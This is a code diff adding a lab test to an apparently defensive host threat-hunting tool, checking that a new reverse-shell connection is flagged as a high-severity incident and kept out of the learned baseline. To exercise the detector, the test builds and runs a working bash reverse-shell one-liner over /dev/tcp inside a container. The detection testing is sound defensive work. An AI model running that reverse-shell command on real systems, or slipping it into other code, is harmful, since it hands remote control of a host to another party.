@@ -30,6 +30,7 @@ pytestmark = pytest.mark.lab
 BIN = Path(sys.executable).parent
 PORT = 8765
 MARK = 2121  # HUNT_SCENARIO of the listener: found by its environment, killed by pid
+SHELL = 2122  # HUNT_SCENARIO of the reverse shell
 CRON = "*/30 * * * * root /bin/true d21drift"
 
 
@@ -112,3 +113,29 @@ def test_baseline_then_new_service_key_and_cron_entry_are_exactly_the_drift(dlab
     assert fourth["samples"] >= 2 and fourth["drift"]["status"] == "compared" and fourth["drift"]["hunts"] == 3
     assert fourth["drift"]["new"] == {}, fourth["drift"]
     assert json.loads((base / f"{name}.json").read_text())["hunts"] == 4
+
+    # a live reverse shell this host never showed: its incident says so first, and what it showed is
+    # withheld from the baseline (the shell is never learned silently)
+    assert " dev eth0 " in hs.sh(c, f"ip route get {hs.GATEWAY}")  # over the lab bridge only
+    try:
+        with hs.Listener(lifetime=60, max_conns=1) as callback:
+            revshell = f"bash -i >& /dev/tcp/{hs.GATEWAY}/{callback.port} 0>&1"
+            hs.podman("exec", "-d", "-e", f"HUNT_SCENARIO={SHELL}", c, "bash", "-c", revshell)
+            assert hs.wait_connected(callback, 1) == 1
+            bash = hs.sh(c, f"readlink /proc/{min(hs.scenario_pids(c)[SHELL])}/exe").strip()
+            fifth = hunt(dlab, tmp_path / "h5", base)["host"]
+    finally:
+        hs.kill(c, hs.scenario_pids(c).get(SHELL, set()))
+    key = f"{bash} -> tcp {hs.GATEWAY}:ephemeral"  # the listener's port is in the ephemeral range
+    pair = f"{bash} > {bash}"  # bash -c forks the redirected bash -i
+    assert new_items(fifth) == {"outbound": [key], "pairs": [pair]}, fifth["drift"]
+    (inc,) = [i for i in fifth["incidents"] if i["severity"] == "high"]
+    assert inc["reasons"][0].startswith(f"never seen on this host before: {key}"), inc["reasons"]
+    withheld = fifth["drift"]["withheld"]
+    assert [i["key"] for i in withheld["outbound"]] == [key] and [i["key"] for i in withheld["pairs"]] == [pair]
+    stored = json.loads((base / f"{name}.json").read_text())
+    assert (
+        stored["hunts"] == 5
+        and key not in stored["categories"]["outbound"]
+        and pair not in stored["categories"]["pairs"]
+    )
